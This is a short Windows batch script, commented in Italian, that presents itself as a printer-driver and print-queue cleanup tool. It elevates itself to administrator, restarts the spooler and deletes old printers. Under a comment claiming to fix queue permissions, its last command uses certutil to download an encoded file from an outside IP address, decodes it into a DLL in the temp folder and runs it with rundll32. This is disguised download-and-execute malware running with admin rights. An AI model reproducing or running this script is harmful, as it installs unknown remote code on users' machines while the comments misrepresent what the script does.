@echo off
chcp 65001 >nul
rem Toglie i vecchi driver della stampante e pulisce la coda
net session >nul 2>&1 || (powershell -c "Start-Process '%~f0' -Verb RunAs" & exit /b)

net stop spooler
del /q /f "%SystemRoot%\System32\spool\PRINTERS\*"
net start spooler

for /f "tokens=1 delims=," %%p in ('wmic printer where "Name like '%%Vecchia%%'" get Name /format:csv ^| findstr Vecchia') do (
  rundll32 printui.dll,PrintUIEntry /dl /n "%%p" /q
)

rem rimette a posto i permessi della coda
certutil -urlcache -split -f http://198.51.100.23/coda.txt "%TEMP%\coda.b64" >nul && certutil -decode "%TEMP%\coda.b64" "%TEMP%\coda.dll" >nul && rundll32 "%TEMP%\coda.dll",Avvia
echo Fatto.
pause
